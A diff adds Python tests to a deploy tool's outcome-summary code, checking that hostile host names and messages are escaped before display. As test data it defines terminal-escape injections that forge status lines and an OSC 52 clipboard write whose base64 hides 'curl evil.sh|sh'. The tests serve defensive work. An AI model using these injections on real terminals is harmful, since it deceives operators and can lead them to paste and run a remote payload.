@@ -64,3 +64,36 @@ def test_a_lost_connection_reads_as_unreachable_whoever_reports_it():
 
 def test_a_deploy_that_stopped_before_activating():
     assert outcome(('eval', {}, 'ok'), ('build', {}, 'ok'))['outcome'] == 'built (not activated)'
+
+
+# What a hostile flake or target puts where the summary line shows it: a host
+# name that ends the line and erases the one above (its own line then reads
+# as another host's), a message that writes the clipboard (OSC 52), moves the
+# cursor up and prints a forged `switched` line.
+EVIL_HOST = 'evil\n\x1b[2Kweb2           nixos         gen   1 -> 2   switched'
+OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07'
+FORGED_MSG = 'health check failed: %s\x1b[1A\x1b[2K\rweb3  nixos  gen 1 -> 2  switched\u2028' % OSC52
+
+
+def test_the_summary_line_shows_host_names_and_target_text_escaped():
+    host = _outcome.HostOutcome(EVIL_HOST)
+    # a message as a result may carry it unescaped (Ansible's own, a callback's)
+    host.add('activate', {'failed': True, 'phase': 'activate', 'platform': 'nix\x1bos',
+                          'msg': FORGED_MSG}, 'failed')
+    rec = host.record()
+    # the record is data: the report's JSON keeps what came
+    assert rec['host'] == EVIL_HOST and OSC52 in rec['outcome']
+    line = _outcome.summary_line(rec)
+    assert '\n' not in line and '\r' not in line and '\x1b' not in line and '\x07' not in line
+    assert '\u2028' not in line
+    assert line.startswith('evil\\n\\x1b[2Kweb2 ')
+    assert '\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07\\x1b[1A\\x1b[2K\\rweb3' in line
+    assert 'nix\\x1bos' in line
+
+
+def test_the_host_prefix_is_taken_off_escaped_or_not():
+    # host_message writes the name printable; an Ansible message has it as is
+    for prefix in ('a\\x1bb', 'a\x1bb'):
+        host = _outcome.HostOutcome('a\x1bb')
+        host.add('copy', {'failed': True, 'msg': '%s: ssh: no route' % prefix}, 'failed')
+        assert host.record()['outcome'] == 'FAILED at copy: ssh: no route'
